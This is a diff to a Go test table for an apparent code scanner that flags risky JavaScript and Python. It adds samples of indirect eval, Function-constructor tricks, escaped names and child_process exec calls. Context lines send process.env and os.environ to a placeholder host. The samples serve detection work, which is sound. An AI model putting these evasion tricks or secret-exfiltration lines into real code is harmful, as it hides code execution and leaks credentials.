@@ -243,6 +243,12 @@ func TestIndirectCalls(t *testing.T) {
 		{"process.env spread into a request body", "a.js", "fetch('https://example.invalid/c', { method: 'POST', body: JSON.stringify({ ...process.env }) });\n", RuleEnvHarvest, SeverityMedium},
 		{"process.env copied with Object.assign", "a.js", "const e = Object.assign({}, process.env);\n", RuleEnvHarvest, SeverityMedium},
 		{"os.environ sent as request parameters", "a.py", "import os, requests\nrequests.get('https://example.invalid/e', params=os.environ)\n", RuleEnvHarvest, SeverityMedium},
+		{"eval through call", "a.js", "eval.call(null, process.argv[2]);\n", RuleEval, SeverityCritical},
+		{"eval through Reflect.apply", "a.js", "Reflect.apply(globalThis['ev' + 'al'], null, ['1+1']);\n", RuleHiddenCall, SeverityCritical},
+		{"Function reached through constructors", "a.js", "const F = [].constructor.constructor;\nF('return process')();\n", RuleFunctionCtor, SeverityCritical},
+		{"Function as an arrow function's constructor", "a.js", "(() => {}).constructor('return 1')();\n", RuleHiddenCall, SeverityCritical},
+		{"a child_process member chosen at run time", "a.js", "const s = decode(x);\nrequire('child_process')[s]('id');\n", RuleHiddenCall, SeverityCritical},
+		{"exec through apply", "a.js", "require('child_process').exec.apply(null, ['id']);\n", RuleChildProcess, SeverityLow},
 		{"a name spelled in escapes", "a.js", "const n = '\\x65\\x76\\x61\\x6c';\n", RuleHiddenCall, SeverityCritical},
 	}
 	for _, tt := range tests {
